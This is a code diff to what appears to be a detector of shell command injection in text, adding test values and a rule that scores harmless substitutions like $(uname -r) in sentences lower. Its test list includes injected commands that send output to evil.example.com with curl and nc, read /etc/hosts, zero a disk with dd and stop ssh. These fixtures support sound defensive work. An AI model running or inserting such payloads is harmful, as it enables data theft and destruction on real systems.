@@ -38,6 +38,10 @@ export const substitution: ValueRule = {
     '12`sudo -l`',
     'holiday`systemctl stop ssh`',
     '-`reboot`',
+    'It ends with $(cat /etc/hosts) as usual',
+    'It ends with $(curl http://evil.example.com/) as usual',
+    'It ends with $(whoami | nc evil.example.com 80) as usual',
+    'It ends with $(wh""oami) as usual',
     '$(dd if=/dev/zero of=/dev/sda)',
     '$(nice -n 5 sleep $((0x5)))',
     '$(x=5 touch uploads/tea.sh)',
@@ -74,6 +78,10 @@ export const substitution: ValueRule = {
     'The fix was to run kill -9 $(lsof -t -i:3000) on my machine',
     'The Dockerfile has RUN apt-get install -y $(cat packages.txt) in it',
     "the shell puts the folder in place of '$(pwd)' and goes on",
+    'It ends with $(uname -r) as usual',
+    'In a script, DIR=$(cd "$(dirname "$0")" && pwd) is the usual way to find the folder',
+    'Installing linux-headers-$(uname -r) solved the problem for me',
+    'Please run sudo chown -R $(whoami) /usr/local and try again',
     'The log says:\n\nmodules for $(uname -r) are missing',
     { body: { 'body.text': 'just do `rm -rf node_modules && npm i`' } },
     { body: { 'body.description': 'I run `sudo apt update && sudo apt upgrade -y` every week' } },
@@ -123,6 +131,7 @@ function closedScore(text: string, command: Command, isListed: boolean): number 
   if (command.hidden) return confidence.certain;
   if (command.fit >= fit.aloneWord && isBetweenQuotes(text, head.start, command.end + 1))
     return confidence.strong;
+  if (isTold(text, command)) return confidence.hint;
   const isPlaced = isPlacedAt(text, command) || isGlued(text, head.start);
   if (command.structured && isPlaced && command.fit >= fit.weak) return confidence.certain;
   switch (command.fit) {
@@ -149,6 +158,36 @@ function closedScore(text: string, command: Command, isListed: boolean): number 
       return 0;
   }
 }
+
+/**
+ * `It ends with $(uname -r) as usual`: within a sentence, and all that the command does is to name
+ * something of the machine, which reaches nobody. What takes a file, asks another machine or
+ * changes something is no such.
+ */
+function isTold(text: string, { head, name, end, structured }: Command): boolean {
+  if (!tellers.has(name) || text.charCodeAt(end) !== closeParen) return false;
+  const given = text.slice(head.nameEnd, end);
+  if (ownScript.test(given)) return true;
+  if (structured || !plainGiven.test(given)) return false;
+  const before = text.slice(Math.max(0, head.start - argumentCharsMax), head.start);
+  return leadsTo.test(before) && goesOn.test(text.slice(end + 1, end + 1 + argumentCharsMax));
+}
+
+const tellers: ReadonlySet<string> = new Set(
+  'uname hostname whoami id pwd date dirname basename nproc arch lsb_release getconf which ls'.split(
+    ' ',
+  ),
+);
+const closeParen = 41;
+/** Where the script itself stands: with this nothing is asked. */
+const ownScript = /^ (?:--? )?["']?\$(?:0|BASH_SOURCE|\{BASH_SOURCE(?:\[0\])?\})["']?$/;
+/** Options, the script's own name, a pattern of files of a folder. */
+const plainGiven =
+  /^(?: {1,2}(?:--?[\w-]{1,20}|\+?%[\w%-]{1,20}|["']?\$[\d@]["']?|(?:\*|[\w-]{1,20})\.\w{1,4}|\w{1,20}))?(?: {1,2}-\w{1,4})? ?$/;
+/** A word of the sentence, and no more than a word or a quote joined to the substitution. */
+const leadsTo = /(?:^|\s)\p{L}{2,24}[,:]?\s(?:-\w{1,4}\s)?\S{0,40}$/u;
+/** It goes on behind the word that the substitution is part of. */
+const goesOn = /^["'`)\]]{0,2}(?: ?[\w~./:-]{1,40}(?=\s))?(?: \p{L}[\p{L}'’-]{0,24}[,.!?]?){2}/u;
 
 /** `apt install linux-headers-$(uname -r)`, `DIR=$(…)`: of a command line that a sentence shows. */
 function isArgument(text: string, start: number): boolean {
